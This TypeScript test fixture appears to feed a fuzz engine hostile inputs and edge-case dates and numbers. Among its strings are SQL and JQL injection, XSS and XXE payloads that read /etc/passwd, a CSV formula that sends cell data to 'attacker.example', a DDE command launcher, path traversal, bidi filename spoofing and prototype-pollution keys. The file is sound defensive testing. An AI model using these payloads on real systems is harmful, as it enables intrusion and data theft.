/**
 * Inputs an attacker (or a careless import) sends: strings aimed at every interpreter the app's
 * text reaches (SQL, JQL, Confluence storage XHTML, ADF, CSV readers), text that renders
 * differently from what it stores (bidi controls, zero-width), and dates where calendars bend.
 * The fuzz engine mixes them into otherwise valid payloads, so they get past shape checks and
 * reach the use cases.
 */

const bidi = ['\u202E', '\u202D', '\u2066', '\u2067', '\u2068', '\u2069', '\u200F', '\u061C'];

export const hostileStrings: readonly string[] = [
  '',
  ' ',
  '\t\n\r',
  // SQL
  "' OR '1'='1",
  "'); DROP TABLE records; --",
  '" OR 1=1 --',
  '1; SELECT * FROM trail_entries',
  '%',
  '_',
  '\\',
  // JQL
  'project = NC OR project != NC',
  '" OR key is not EMPTY OR summary ~ "',
  'ORDER BY created DESC',
  'issueFunction in linkedIssuesOf("project = SEC")',
  // Confluence storage XHTML and HTML
  '<ac:structured-macro ac:name="html"><ac:plain-text-body><![CDATA[<script>alert(1)</script>]]></ac:plain-text-body></ac:structured-macro>',
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror=alert(1)>',
  ']]><x>',
  '&lt;b&gt;&amp;',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  // ADF
  '{"type":"doc","version":1,"content":[{"type":"extension","attrs":{"extensionKey":"x"}}]}',
  // CSV (formula injection and structure)
  '=HYPERLINK("http://attacker.example/?"&A1,"open")',
  '+cmd|" /C calc"!A0',
  '-2+3',
  '@SUM(1+1)',
  '"a","b"\n"c"',
  'a,b;c\r\nd',
  // Prototype keys as text
  '__proto__',
  'constructor',
  'prototype',
  // Unicode that displays differently from what it stores
  ...bidi.map((control) => `invoice${control}fdp.exe`),
  'A\u200BB',
  '\uFEFFtitle',
  'e\u0301',
  '\u{1F600}\u{1F469}\u200D\u{1F4BB}',
  '\uD800',
  '\u0000nul',
  'İstanbul ß ﬁ',
  // Ids of records that were never there, belong to someone else, or were cancelled
  'audit_999999',
  '../../etc/passwd',
  'NC-0',
  'NC-99999',
  'XSS-1',
];

/** Dates where calendars bend: leap days, DST changes in Europe and the US, edges, impossibilities. */
export const edgeDates: readonly string[] = [
  '2024-02-29',
  '2026-02-29',
  '2026-02-28',
  '2026-03-29',
  '2026-03-08',
  '2026-10-25',
  '2026-11-01',
  '2026-12-31',
  '2027-01-01',
  '2026-01-01',
  '1970-01-01',
  '0000-00-00',
  '9999-12-31',
  '2026-13-01',
  '2026-00-10',
  '2026-04-31',
  '1900-02-29',
  '2000-02-29',
];

/** Months in the same spirit (YYYY-MM fields). */
export const edgeMonths: readonly string[] = [
  '2026-02',
  '2026-03',
  '2026-10',
  '2026-12',
  '2026-13',
  '0000-00',
  '9999-12',
];

/** Numbers that break naive arithmetic. */
export const edgeNumbers: readonly number[] = [
  0,
  -0,
  -1,
  1,
  2 ** 31,
  2 ** 53,
  Number.MAX_SAFE_INTEGER,
  Number.MIN_SAFE_INTEGER,
  0.1,
  1e308,
  -1e308,
  Number.NaN,
  Number.POSITIVE_INFINITY,
  Number.NEGATIVE_INFINITY,
];

/** A value nested `depth` levels deep (objects and arrays alternating). */
export function deeplyNested(depth: number): unknown {
  let value: unknown = 'bottom';
  for (let i = 0; i < depth; i += 1) value = i % 2 === 0 ? { a: value } : [value];
  return value;
}

/** An object whose own key is `__proto__` (as JSON.parse makes it), not a prototype change. */
export function protoKeyed(inner: unknown): Record<string, unknown> {
  return JSON.parse(`{"__proto__": ${JSON.stringify(inner)}, "constructor": {"prototype": {"polluted": true}}}`);
}
